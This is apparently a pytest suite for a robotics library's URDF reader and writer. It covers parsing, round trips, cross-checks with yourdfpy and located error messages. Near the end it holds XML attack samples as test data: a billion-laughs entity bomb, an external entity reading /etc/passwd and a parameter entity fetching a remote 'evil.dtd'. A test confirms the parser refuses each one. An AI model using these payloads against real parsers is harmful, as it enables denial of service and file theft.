"""URDF: reading the fixture, world/base handling, round trips, yourdfpy as an independent reader
of what we write, and every bad-input class with its line (XML bombs and external entities included)."""

from __future__ import annotations

import math
import warnings
from pathlib import Path

import numpy as np
import pytest
from _compare import assert_morphology_equal
from morphkit_testing import TEST_CREATURES, shipped_morphology

from morphkit.conventions import matrix_from_quat, quat_from_axis_angle, quat_from_rpy, transform_multiply
from morphkit.errors import DescriptionError, GraphError, MorphkitError
from morphkit.graph import BaseType, EndEffectorRole, JointType, Morphology, ShapeType
from morphkit.io import read_morphology, write_morphology
from morphkit.io.asset_paths import allow_outside
from morphkit.io.urdf import dump_urdf, parse_urdf, read_urdf, write_urdf
from morphkit.io.yaml_format import read_yaml

DATA = Path(__file__).resolve().parents[1] / "data"
TINY = DATA / "tiny_robot.urdf"
URDF_CREATURES = sorted(n for n, f in TEST_CREATURES.items() if not any(
    j.type == JointType.SPHERICAL for j in f().joints))


def _quat(rpy):
    return quat_from_rpy(np.asarray(rpy, dtype=float))


# ---- reading -----------------------------------------------------------------------------------
def test_reads_the_fixture():
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # the visual mesh of base_link is never looked for
        m = read_urdf(TINY)
    assert m.name == "tiny_robot"
    assert m.base == BaseType.FLOATING  # from the floating world joint
    assert "world" not in m.link_names and "world_to_base" not in m.joint_names
    assert m.root == "base_link"
    assert m.joint_names == ("hip", "knee", "spin", "slide", "follow", "mount")
    assert m.dof == 4  # hip, knee, spin, slide; follow mimics slide

    hip = m.joint("hip")
    assert hip.type == JointType.REVOLUTE and hip.location.line == 39
    np.testing.assert_allclose(hip.origin.xyz, (0.2, 0.1, -0.05))
    np.testing.assert_allclose(hip.origin.quat, _quat((0.1, -0.2, 0.3)), atol=1e-15)
    assert (hip.limit.lower, hip.limit.upper, hip.limit.effort, hip.limit.velocity) == (-1.2, 0.8, 40.0, 5.0)
    np.testing.assert_allclose(m.joint("knee").axis, (1, 0, 0))  # URDF's default axis
    np.testing.assert_allclose(m.joint("spin").axis, (0, 0, 1))  # normalised
    assert m.joint("spin").type == JointType.CONTINUOUS and m.joint("spin").limit is None
    follow = m.joint("follow")
    assert (follow.mimic.joint, follow.mimic.multiplier, follow.mimic.offset) == ("slide", -1.0, 0.0)
    assert m.joint("mount").type == JointType.FIXED

    base = m.link("base_link")  # collision wins over visual
    assert [s.type for s in base.shapes] == [ShapeType.BOX, ShapeType.SPHERE]
    assert base.shapes[0].size == (0.5, 0.3, 0.1) and base.shapes[0].origin.xyz == (0.0, 0.0, 0.05)
    upper = m.link("upper").shapes[0]  # visual only: used
    assert (upper.type, upper.radius, upper.length) == (ShapeType.CYLINDER, 0.03, 0.3)
    np.testing.assert_allclose(upper.origin.quat, _quat((0, math.pi / 2, 0)), atol=1e-15)
    lower = m.link("lower").shapes[0]
    assert (lower.type, lower.radius, lower.length) == (ShapeType.CAPSULE, 0.02, 0.26)
    mesh = m.link("sensor").shapes[0]  # package://data/... found by searching upwards
    assert mesh.type == ShapeType.MESH and mesh.scale == (2.0, 2.0, 2.0)
    assert Path(mesh.mesh) == DATA / "meshes" / "finger.obj"

    foot = m.end_effector("foot")
    assert (foot.link, foot.role, foot.offset) == ("wheel", EndEffectorRole.FOOT, (0.0, 0.0, -0.05))
    assert m.end_effector("eye").offset == (0.0, 0.0, 0.0) and m.end_effector("eye").role == EndEffectorRole.HEAD


def _robot(body: str, extra_links: str = "") -> str:
    return f'<robot name="r">\n<link name="a"/>\n<link name="b"/>{extra_links}\n{body}\n</robot>\n'


J_AB = '<joint name="j" type="continuous"><parent link="a"/><child link="b"/></joint>'


@pytest.mark.parametrize(
    ("world_joint", "base_element", "base"),
    [
        ("floating", "", BaseType.FLOATING),
        ("planar", "", BaseType.PLANAR),
        ("fixed", "", BaseType.FIXED),
        ("planar", '<base type="wheeled"/>', BaseType.WHEELED),  # the extension element wins
        # Nothing said and no chain that carries the body (an arm): fixed, as issue 46 asks;
        # a body with legs floats (tests/io/test_anatomy.py).
        (None, "", BaseType.FIXED),
        (None, '<base type="floating"/>', BaseType.FLOATING),
        (None, '<base type="fixed"/>', BaseType.FIXED),
    ],
)
def test_base_type_from_world_joint_or_extension(world_joint, base_element, base):
    world = ""
    if world_joint is not None:
        world = (f'<link name="world"/><joint name="w" type="{world_joint}">'
                 '<parent link="world"/><child link="a"/></joint>')
    m = parse_urdf(_robot(J_AB + world + base_element))
    assert m.base == base
    assert m.link_names == ("a", "b") and m.joint_names == ("j",)


def test_world_with_a_moving_joint_is_an_ordinary_link():
    text = _robot(J_AB + '<link name="world"/><joint name="w" type="revolute"><parent link="world"/>'
                  '<child link="a"/><limit lower="-1" upper="1" effort="1" velocity="1"/></joint>')
    m = parse_urdf(text)
    assert m.root == "world" and m.joint_names == ("w", "j")


def test_world_joint_origin_is_ignored_with_a_warning():
    text = _robot(J_AB + '<link name="world"/><joint name="w" type="fixed"><parent link="world"/>'
                  '<child link="a"/><origin xyz="0 0 1"/></joint>')
    with pytest.warns(UserWarning, match="origin of world joint 'w' is ignored"):
        assert parse_urdf(text).base == BaseType.FIXED


def test_package_paths(tmp_path):
    pkg = tmp_path / "ws" / "src" / "my_robot"
    (pkg / "meshes").mkdir(parents=True)
    (pkg / "urdf").mkdir()
    (pkg / "meshes" / "m.stl").write_text("solid x\nendsolid x\n")
    (pkg / "package.xml").write_text("<package><name>my_robot</name></package>\n")  # a declared package root
    (tmp_path / "ws" / "src" / "other").mkdir()
    mesh = '<link name="{}"><collision><geometry><mesh filename="{}"/></geometry></collision></link>'
    text = ('<robot name="r"><link name="a"/>'
            + mesh.format("p", "package://my_robot/meshes/m.stl") + mesh.format("q", "package://nope/m.stl")
            + mesh.format("r", "file://" + str(pkg / "meshes" / "m.stl"))
            + "".join(f'<joint name="j{n}" type="fixed"><parent link="a"/><child link="{n}"/></joint>' for n in "pqr")
            + "</robot>")
    # Found from inside the package (a folder on the way up is named like it) and from a sibling
    # package (a folder on the way up contains it).
    for folder in (pkg / "urdf", tmp_path / "ws" / "src" / "other"):
        path = folder / "r.urdf"
        path.write_text(text)
        with pytest.warns(UserWarning, match="mesh file not found: package://nope/m.stl") as record:
            m = read_urdf(path)
        assert Path(m.link("p").shapes[0].mesh) == pkg / "meshes" / "m.stl"
        assert m.link("q").shapes[0].mesh == "package://nope/m.stl"  # kept as written when not found
        if folder == pkg / "urdf":
            assert Path(m.link("r").shapes[0].mesh) == pkg / "meshes" / "m.stl"
        else:  # a plain path into another package is outside this description's own: left out, with a warning
            assert m.link("r").shapes[0].mesh.startswith("file://")
            assert any("outside the description's folder" in str(w.message) for w in record)
    # Without a file, package:// cannot be resolved: kept, with one warning for the file.
    with pytest.warns(UserWarning) as record:
        assert parse_urdf(text).link("p").shapes[0].mesh == "package://my_robot/meshes/m.stl"
    assert [str(w.message) for w in record] == [
        "<input>:1: 2 mesh files not found, e.g. package://my_robot/meshes/m.stl; their shapes are kept as paths "
        "without geometry (drawn as the link's other shapes or a stand-in)"]


def test_missing_mesh_warns_with_the_line(tmp_path):
    path = tmp_path / "r.urdf"
    path.write_text('<robot name="r">\n<link name="a">\n<collision><geometry>\n<mesh filename="meshes/x.dae"/>'
                    "</geometry></collision></link></robot>")
    with pytest.warns(UserWarning, match=r"r\.urdf:4: mesh file not found: .*meshes/x\.dae"):
        m = read_urdf(path)
    assert m.links[0].shapes[0].mesh == str(tmp_path / "meshes" / "x.dae")


# ---- round trips -------------------------------------------------------------------------------
def test_round_trip_fixture(tmp_path):
    m = read_urdf(TINY)
    out = tmp_path / "deeper" / "tiny.urdf"
    write_urdf(m, out)
    assert "package://" not in out.read_text()  # written relative to the new file
    with allow_outside():  # the meshes stay where they were: outside the new file's folder
        assert_morphology_equal(m, read_urdf(out), 1e-9)


@pytest.mark.parametrize("name", URDF_CREATURES)
def test_round_trip_creatures_built_in_code(name):
    m = TEST_CREATURES[name]()
    assert_morphology_equal(m, parse_urdf(dump_urdf(m)), 1e-9)


def test_yaml_to_urdf_to_yaml(tmp_path):
    m = read_yaml(DATA / "tiny_creature.yaml")
    write_morphology(m, tmp_path / "c.urdf")
    with allow_outside():  # the meshes stay where they were: outside the new files' folder
        back = read_morphology(tmp_path / "c.urdf")
        assert_morphology_equal(m, back, 1e-9)
        write_morphology(back, tmp_path / "c.yaml")
        assert_morphology_equal(m, read_morphology(tmp_path / "c.yaml"), 1e-9)


def test_round_trip_shipped_spot(tmp_path):
    m = shipped_morphology("spot")
    write_morphology(m, tmp_path / "spot.urdf")
    assert_morphology_equal(m, read_morphology(tmp_path / "spot.urdf"), 1e-6)


@pytest.mark.parametrize("pitch", [math.pi / 2, -math.pi / 2, 1.5707963, math.pi / 2 - 1e-5, -math.pi / 2 + 1e-11])
def test_round_trip_near_gimbal_lock(pitch):
    text = _robot('<joint name="j" type="fixed"><parent link="a"/><child link="b"/>'
                  f'<origin rpy="0.3 {pitch!r} -0.4"/></joint>')
    m = parse_urdf(text)
    assert_morphology_equal(m, parse_urdf(dump_urdf(m)), 1e-12)


def test_spherical_joints_cannot_be_written(tmp_path):
    m = TEST_CREATURES["human_like"]()
    path = tmp_path / "h.urdf"
    path.write_text("precious")
    with pytest.raises(DescriptionError, match=r"joint 'lhipjoint' is spherical.*write USD or YAML instead"):
        write_morphology(m, path)
    assert path.read_text() == "precious"  # nothing overwritten
    assert [p.name for p in tmp_path.iterdir()] == ["h.urdf"]


# ---- yourdfpy reads what we write (an independent URDF parser) ---------------------------------
def _T(xyz, quat) -> np.ndarray:
    T = np.eye(4)
    T[:3, :3] = matrix_from_quat(np.asarray(quat))
    T[:3, 3] = xyz
    return T


def _check_with_yourdfpy(m: Morphology, path: Path) -> None:
    yourdfpy = pytest.importorskip("yourdfpy")
    u = yourdfpy.URDF.load(str(path), build_scene_graph=True, load_meshes=False, build_collision_scene_graph=False,
                           load_collision_meshes=False)
    assert u.robot.name == m.name
    assert u.base_link == m.root
    joints = {j.name: j for j in u.robot.joints}
    assert sorted(joints) == sorted(m.joint_names)
    for j in m.joints:
        uj = joints[j.name]
        assert uj.type == j.type.name.lower()
        assert (uj.parent, uj.child) == (j.parent, j.child)
        np.testing.assert_allclose(uj.origin, _T(j.origin.xyz, j.origin.quat), atol=1e-9, err_msg=j.name)
        if j.type != JointType.FIXED:
            np.testing.assert_allclose(uj.axis, j.axis, atol=1e-12)
        if j.type in (JointType.REVOLUTE, JointType.PRISMATIC):
            assert (uj.limit.lower, uj.limit.upper) == (j.limit.lower, j.limit.upper)
        if j.mimic is not None:
            assert (uj.mimic.joint, uj.mimic.multiplier, uj.mimic.offset) == (
                j.mimic.joint, j.mimic.multiplier, j.mimic.offset)
    links = {link.name: link for link in u.robot.links}
    assert sorted(links) == sorted(m.link_names)
    for link in m.links:
        collisions = links[link.name].collisions
        assert len(collisions) == len(link.shapes)
        for s, c in zip(link.shapes, collisions, strict=True):
            np.testing.assert_allclose(c.origin, _T(s.origin.xyz, s.origin.quat), atol=1e-9)
            g = c.geometry
            if s.type == ShapeType.BOX:
                np.testing.assert_allclose(g.box.size, s.size)
            elif s.type == ShapeType.SPHERE:
                assert g.sphere.radius == s.radius
            elif s.type in (ShapeType.CYLINDER, ShapeType.CAPSULE):  # capsules show as cylinders
                assert (g.cylinder.radius, g.cylinder.length) == (s.radius, s.length)
            else:
                np.testing.assert_allclose(g.mesh.scale, s.scale)
    # Link poses agree at zero joint values (mimic joints at their offset), from yourdfpy's scene graph.
    poses = {m.root: np.array([0, 0, 0, 0, 0, 0, 1.0])}
    for j in m.joints:
        q = j.mimic.offset if j.mimic is not None else 0.0
        motion = np.array([0, 0, 0, 0, 0, 0, 1.0])
        if j.type in (JointType.REVOLUTE, JointType.CONTINUOUS):
            motion[3:] = quat_from_axis_angle(np.asarray(j.axis), q)
        elif j.type == JointType.PRISMATIC:
            motion[:3] = q * np.asarray(j.axis)
        poses[j.child] = transform_multiply(transform_multiply(poses[j.parent], j.origin.as_array()), motion)
    for name, T in poses.items():
        np.testing.assert_allclose(u.get_transform(name, m.root), _T(T[:3], T[3:]), atol=1e-9, err_msg=name)


@pytest.mark.parametrize("name", URDF_CREATURES)
def test_yourdfpy_loads_what_we_write(name, tmp_path):
    m = TEST_CREATURES[name]()
    write_urdf(m, tmp_path / f"{name}.urdf")
    _check_with_yourdfpy(m, tmp_path / f"{name}.urdf")


def test_yourdfpy_loads_the_fixture_rewritten(tmp_path):
    m = read_urdf(TINY)  # capsules, meshes, mimic, every 1-DoF type
    write_urdf(m, tmp_path / "tiny.urdf")
    _check_with_yourdfpy(m, tmp_path / "tiny.urdf")


# ---- bad input: each class, with the line of the offending element ------------------------------
GOOD = """\
<robot name="bad">
  <link name="body">
    <collision><geometry><box size="1 1 1"/></geometry></collision>
  </link>
  <link name="leg"/>
  <link name="foot"/>
  <joint name="hip" type="revolute">
    <parent link="body"/>
    <child link="leg"/>
    <origin xyz="0 0 -0.1" rpy="0 0 0"/>
    <axis xyz="0 1 0"/>
    <limit lower="-1" upper="1" effort="1" velocity="1"/>
  </joint>
  <joint name="knee" type="revolute">
    <parent link="leg"/>
    <child link="foot"/>
    <limit lower="-1.5" upper="1.5" effort="1" velocity="1"/>
  </joint>
  <end_effector name="toe" link="foot" role="foot" xyz="0 0 -0.1"/>
</robot>
"""


def test_good_text_reads():
    m = parse_urdf(GOOD, source="bad.urdf")
    assert m.joint_names == ("hip", "knee") and m.dof == 2


BAD = [
    # (old, new, error class, message fragment, line)
    ("</joint>\n  <joint", "</jont>\n  <joint", DescriptionError, "malformed XML", 13),
    ('<robot name="bad">', '<robt name="bad">', DescriptionError, "malformed XML", None),
    ('type="revolute">\n    <parent link="body"', 'type="hinge">\n    <parent link="body"', DescriptionError,
     "unknown joint type 'hinge'; expected one of: revolute, continuous, prismatic, fixed, floating, planar", 7),
    ('role="foot"', 'role="claw"', DescriptionError, "unknown end-effector role 'claw'; expected one of", 19),
    ("<end_effector", '<base type="hovering"/>\n  <end_effector', DescriptionError,
     "unknown base type 'hovering'; expected one of: fixed, floating, planar, wheeled", 19),
    ('<box size="1 1 1"/>', '<cone radius="1"/>', DescriptionError,
     "unknown geometry <cone>; expected one of: box, sphere, cylinder, capsule, mesh", 3),
    ('<box size="1 1 1"/>', "", DescriptionError, "<geometry> must hold exactly one shape, found 0", 3),
    ('<geometry><box size="1 1 1"/></geometry>', "", DescriptionError, "missing <geometry>", 3),
    ('<box size="1 1 1"/>', '<box size="1 1"/>', DescriptionError, "size='1 1' must be 3 numbers", 3),
    ('<box size="1 1 1"/>', '<box size="1 nan 1"/>', DescriptionError, "non-finite number 'nan'", 3),
    ('<box size="1 1 1"/>', '<box size="1 -inf 1"/>', DescriptionError, "non-finite number '-inf'", 3),
    ('<box size="1 1 1"/>', '<box size="1 one 1"/>', DescriptionError, "'one' is not a number", 3),
    ('<box size="1 1 1"/>', '<box size="1 1_0 1"/>', DescriptionError, "'1_0' is not a number", 3),
    ('<box size="1 1 1"/>', '<box size="1 0 1"/>', GraphError, "size must be 3 positive extents", 3),
    ('<box size="1 1 1"/>', "<sphere/>", DescriptionError, "<sphere> needs attribute 'radius'", 3),
    ('<axis xyz="0 1 0"/>', '<axis xyz="0 0 0"/>', GraphError, "zero axis", 7),
    ('<axis xyz="0 1 0"/>', '<axis xyz="0 1 0 0"/>', DescriptionError, "xyz='0 1 0 0' must be 3 numbers", 11),
    ('rpy="0 0 0"', 'rpy="0 0 1e999"', DescriptionError, "non-finite number '1e999'", 10),
    ('lower="-1" upper="1"', 'lower="1" upper="-1"', DescriptionError, "limit lower 1.0 > upper -1.0", 12),
    ('lower="-1" upper="1"', 'lower="-1" upper="x"', DescriptionError, "'x' is not a number", 12),
    ('    <limit lower="-1" upper="1" effort="1" velocity="1"/>\n', "", DescriptionError,
     "joint 'hip': a revolute joint needs a <limit> (use type continuous", 7),
    ('    <parent link="body"/>\n', "", DescriptionError, "joint 'hip': missing <parent>", 7),
    ('<parent link="body"/>', '<parent/>', DescriptionError, "<parent> needs attribute 'link'", 8),
    ('<parent link="body"/>', '<parent link=" "/>', DescriptionError, "attribute 'link' is empty", 8),
    ('<joint name="knee"', '<joint', DescriptionError, "joint: <joint> needs attribute 'name'", 14),
    ('<link name="foot"/>', '<link name="leg"/>', GraphError, "duplicate link name 'leg'", 6),
    ('<joint name="knee"', '<joint name="hip"', GraphError, "duplicate joint name 'hip'", 14),
    ('<child link="foot"/>', '<child link="leg"/>', GraphError, "parent and child are the same link", 14),
    ('<parent link="body"/>', '<parent link="foot"/>', GraphError, "cycle", 7),
    ("<end_effector", '<joint name="x" type="fixed"><parent link="body"/><child link="foot"/></joint>\n  <end_effector',
     GraphError, "link 'foot' has two parents (joints 'knee' and 'x')", 19),
    ('link="foot" role', 'link="hand" role', GraphError, "end-effector 'toe' on unknown link 'hand'", 19),
    ('<child link="foot"/>', '<child link="nowhere"/>', GraphError, "joint 'knee' names missing link 'nowhere'", 14),
    ('<link name="foot"/>', '<link name="foot"/><link name="island"/>', GraphError,
     "several links have no parent (body, island)", 6),
    ('type="revolute">\n    <parent link="leg"', 'type="floating">\n    <parent link="leg"', DescriptionError,
     "a floating joint is only supported from the 'world' link or the root link", 14),
    ("<end_effector", '<wheels joints="hip" radius="0.1"/>\n  <end_effector', GraphError,
     "wheels are only meaningful on a wheeled base", 19),
    ("<end_effector", '<wheels joints="hip"/>\n  <end_effector', DescriptionError,
     "<wheels> needs attribute 'radius'", 19),
    ('<end_effector name="toe"', '<end_effector', DescriptionError, "<end_effector> needs attribute 'name'", 19),
    ('<origin xyz="0 0 -0.1" rpy="0 0 0"/>', '<origin/><origin/>', DescriptionError, "more than one <origin>", 10),
]


@pytest.mark.parametrize(("old", "new", "cls", "message", "line"), BAD, ids=[b[3] for b in BAD])
def test_bad_input_is_located(old, new, cls, message, line):
    assert GOOD.count(old) == 1, old
    with pytest.raises(cls) as info:
        parse_urdf(GOOD.replace(old, new), source="bad.urdf")
    err = info.value
    assert message in err.message, err.message
    assert err.location is not None and err.location.path == "bad.urdf"
    if line is not None:
        assert err.location.line == line, str(err)
        assert str(err).startswith(f"bad.urdf:{line}: ")
    else:
        assert err.location.line is not None


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "malformed XML"),
        ("   \n", "malformed XML"),
        ("<robot", "malformed XML"),
        ('<?xml version="1.0" encoding="UTF-9"?><robot name="r"><link name="a"/></robot>', None),
        ('<?xml version="1.0" encoding="latin-1"?><robot name="r\u00e9"><link name="a"/></robot>', None),
        ("<model/>", "expected a <robot> document, found <model>"),
        ('<robot name="r"/>', "the <robot> holds no <link>"),
        ('<robot name="r"><link name="a"/>&#0;</robot>', "malformed XML"),
        ('<robot name="r"><link name="&amp;a"/></robot>', None),
        ('<robot name="r"><link name="&undefined;"/></robot>', "malformed XML"),
        ('<!DOCTYPE robot SYSTEM "http://example.invalid/robot.dtd"><robot name="r"><link name="a"/></robot>', None),
    ],
)
def test_malformed_documents(text, message):
    if message is None:
        parse_urdf(text)
        return
    with pytest.raises(MorphkitError) as info:
        parse_urdf(text, source="m.urdf")
    assert message in info.value.message
    assert info.value.location.path == "m.urdf"


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE robot [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<robot name="&lol9;"><link name="a"/></robot>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE robot [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<robot name="r"><link name="&x;"/></robot>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE robot [<!ENTITY % p SYSTEM "http://example.invalid/evil.dtd"> %p;]>
<robot name="r"><link name="a"/></robot>
"""


@pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "parameter-entity"])
def test_entity_declarations_are_refused(text, tmp_path):
    path = tmp_path / "evil.urdf"
    path.write_text(text)
    with pytest.raises(DescriptionError, match="declares entities") as info:
        read_urdf(path)
    assert info.value.location.path == str(path)
    assert info.value.location.line == text[: text.index("<!ENTITY")].count("\n") + 1
    assert "root:" not in str(info.value)  # nothing of /etc/passwd leaks into the message
    with pytest.raises(DescriptionError, match="declares entities"):
        read_morphology(path)


def test_file_errors(tmp_path):
    with pytest.raises(DescriptionError, match="URDF file not found"):
        read_urdf(tmp_path / "missing.urdf")
    with pytest.raises(DescriptionError, match=r"description file not found: .*missing\.urdf"):
        read_morphology(tmp_path / "missing.urdf")
    (tmp_path / "latin.urdf").write_bytes(b'<robot name="caf\xe9"><link name="a"/></robot>')
    with pytest.raises(DescriptionError, match="not UTF-8"):
        read_urdf(tmp_path / "latin.urdf")
